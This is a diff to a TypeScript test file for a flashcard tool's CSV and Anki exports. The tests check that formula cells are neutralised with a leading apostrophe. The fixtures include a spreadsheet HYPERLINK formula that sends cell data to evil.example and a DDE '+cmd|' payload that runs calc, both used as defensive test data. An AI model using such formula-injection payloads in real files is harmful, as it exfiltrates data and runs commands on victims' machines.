@@ -2,7 +2,10 @@
 // (a HYPERLINK that sends a cell to a web address, a DDE command), and one kept inert by its leading
 // spaces. Exported as CSV or Anki text, every such cell carries a leading apostrophe (text, to a
 // spreadsheet); --raw writes them as the deck has them; importing never turns an inert cell into an
-// active one, and an export imported and exported again gives the same bytes.
+// active one, and an export imported and exported again gives the same bytes. The tags cell starts with
+// the topic's tag, `factdeck::topic::@SUM` (Anki sorts tags, so the topic is marked by a prefix): a cell
+// that starts with a letter is text to a spreadsheet and is left as it is; a tags cell that does start
+// with a formula character is neutralised like any other (test/interop/import-deck.test.ts).
 
 import { readFile, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
@@ -39,19 +42,19 @@ describe('export', () => {
   test('CSV: every cell a spreadsheet would run starts with an apostrophe', async () => {
     expect(await exported('csv')).toBe(
       'front,back,tags\r\n' +
-        '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",\'+cmd|\' /C calc\'!A0,\'@SUM formulas\r\n' +
-        "'-2+3,'  =1+1,x formulas\r\n",
+        '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",\'+cmd|\' /C calc\'!A0,factdeck::topic::@SUM formulas\r\n' +
+        "'-2+3,'  =1+1,factdeck::topic::x formulas\r\n",
     );
   });
 
   test('Anki text: the same cells, the same apostrophes', async () => {
     const body = (await exported('anki')).split('\n').filter((line) => !line.startsWith('#'));
-    expect(body).toEqual(['"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"\t\'+cmd|\' /C calc\'!A0\t\'@SUM formulas', "'-2+3\t'  =1+1\tx formulas", '']);
+    expect(body).toEqual(['"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"\t\'+cmd|\' /C calc\'!A0\tfactdeck::topic::@SUM formulas', "'-2+3\t'  =1+1\tfactdeck::topic::x formulas", '']);
   });
 
   test('--raw: the cells as the deck has them, the inert one still inert', async () => {
     expect(await exported('csv', '--raw')).toBe(
-      'front,back,tags\r\n' + '"=HYPERLINK(""http://evil.example/?""&A1,""click"")",+cmd|\' /C calc\'!A0,@SUM formulas\r\n' + '-2+3,  =1+1,x formulas\r\n',
+      'front,back,tags\r\n' + '"=HYPERLINK(""http://evil.example/?""&A1,""click"")",+cmd|\' /C calc\'!A0,factdeck::topic::@SUM formulas\r\n' + '-2+3,  =1+1,factdeck::topic::x formulas\r\n',
     );
   });
 });
